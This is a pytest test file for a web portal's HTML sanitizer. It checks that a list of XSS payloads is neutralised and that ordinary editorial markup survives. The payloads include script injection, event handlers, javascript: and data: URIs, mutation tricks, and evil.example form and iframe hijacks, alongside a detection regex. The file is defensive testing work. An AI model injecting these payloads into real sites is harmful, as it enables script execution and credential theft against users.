"""The rich-text sanitizer: hostile markup comes out harmless, editorial
markup survives."""

import re

import pytest

from msme_portal.richtext import is_own_media_url, sanitize_html

XSS_PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<img src="/media/editor/a.png" onerror="alert(1)">',
    '<img src=x onerror=alert(1)//">',
    '<a href="javascript:alert(1)">click</a>',
    '<a href="JaVaScRiPt:alert(1)">click</a>',
    '<a href="jav&#x09;ascript:alert(1)">click</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<iframe src="https://evil.example/"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<svg onload=alert(1)>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<p style="background:url(javascript:alert(1))">styled</p>',
    '<div style="width: expression(alert(1))">old IE</div>',
    "<style>body{background:url('javascript:alert(1)')}</style>",
    '<object data="https://evil.example/x.swf"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<form action="https://evil.example/"><input name="password"></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<body onload="alert(1)">',
    '<p onclick="alert(1)" onmouseover="alert(2)">hover</p>',
    '<img src="https://evil.example/tracker.gif" alt="pixel">',
    '<img src="//evil.example/media/a.png">',
    '<img src="/media/../etc/passwd">',
    "<<img src=x onerror=alert(1)>",
    '<a href="https://example.org/" onfocus="alert(1)" autofocus>x</a>',
    "<!--<img src=x onerror=alert(1)>-->",
    '<details open ontoggle="alert(1)">',
    '<video><source onerror="alert(1)"></video>',
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    "<p>unclosed <b>bold <i>italic",
    '<a href="https://example.org/"',
    "</p></div><script>alert(1)</script>",
]

DANGEROUS = re.compile(
    r"<\s*/?\s*(script|iframe|svg|math|style|object|embed|form|input|meta|base|link|body|"
    r"details|video|source)\b|\son\w+\s*=|javascript:|vbscript:|data:|expression\s*\(|"
    r"style\s*=|evil\.example",
    re.IGNORECASE,
)


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_hostile_markup_comes_out_harmless(payload):
    cleaned = sanitize_html(payload)
    assert not DANGEROUS.search(cleaned), cleaned
    # Whatever is left is stable: cleaning again changes nothing.
    assert sanitize_html(cleaned) == cleaned


def test_editorial_markup_is_preserved():
    html = (
        "<h3>Upcoming meetings</h3>"
        "<p>The Group meets on <strong>15 July</strong> and <em>12 October</em>.</p>"
        "<ul><li>One</li><li>Two</li></ul>"
        '<ol start="3"><li>Three</li></ol>'
        "<blockquote><p>Small business, big impact.</p></blockquote>"
        '<table><caption>Members</caption><thead><tr><th scope="col">Name</th></tr></thead>'
        '<tbody><tr><td colspan="2">Uruguay</td></tr></tbody></table>'
        '<figure><img src="/media/editor/abc.png" alt="A chart" width="300" height="200">'
        "<figcaption>Growth</figcaption></figure>"
    )
    assert sanitize_html(html) == html


def test_links_keep_their_address_and_get_rel_noopener():
    cleaned = sanitize_html('<a href="https://www.trade4msmes.org/" title="Platform">here</a>')
    assert 'href="https://www.trade4msmes.org/"' in cleaned
    assert 'rel="noopener"' in cleaned
    assert 'title="Platform"' in cleaned
    assert 'href="mailto:msme@wto.org"' in sanitize_html('<a href="mailto:msme@wto.org">m</a>')


def test_only_our_own_media_may_be_shown_as_images(settings):
    settings.SITE_URL = "https://newsletter.example.org"
    settings.MEDIA_URL = "/media/"
    assert is_own_media_url("/media/editor/a.png")
    assert is_own_media_url("https://newsletter.example.org/media/editor/a.png")
    assert not is_own_media_url("https://evil.example/media/editor/a.png")
    assert not is_own_media_url("http://newsletter.example.org/media/a.png")
    assert not is_own_media_url("/static/a.png")
    kept = sanitize_html('<img src="/media/editor/a.png" alt="x">')
    assert 'src="/media/editor/a.png"' in kept


def test_non_numeric_sizes_are_dropped():
    cleaned = sanitize_html('<img src="/media/a.png" alt="a" width="100%" height="12">')
    assert "width" not in cleaned
    assert 'height="12"' in cleaned


def test_text_is_escaped_not_interpreted():
    assert sanitize_html("1 < 2 & 3 > 2") == "1 &lt; 2 &amp; 3 &gt; 2"
    assert sanitize_html("") == ""
    assert sanitize_html(None) == ""
